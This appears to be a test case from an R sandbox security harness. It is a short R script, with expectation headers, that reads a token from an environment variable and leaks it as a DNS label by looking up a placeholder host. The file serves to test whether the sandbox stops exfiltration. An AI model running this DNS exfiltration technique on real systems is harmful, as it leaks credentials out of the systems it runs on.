# category: network
# summary: leak the supervisor's token as a DNS label
# expect: outcome=ok
# expect-stdout-contains: lookup done
# targets: listener:dns, secret:env
# calibrate: yes
# calibrate-expect-received: dns

tok <- Sys.getenv("RSANDBOX_ATTACK_TOKEN", "no-token")
label <- substr(gsub("[^A-Za-z0-9]", "", tok), 1, 40)
r <- utils::nsl(paste0(label, ".{{DNS_NAME}}"))
cat("lookup done\n")
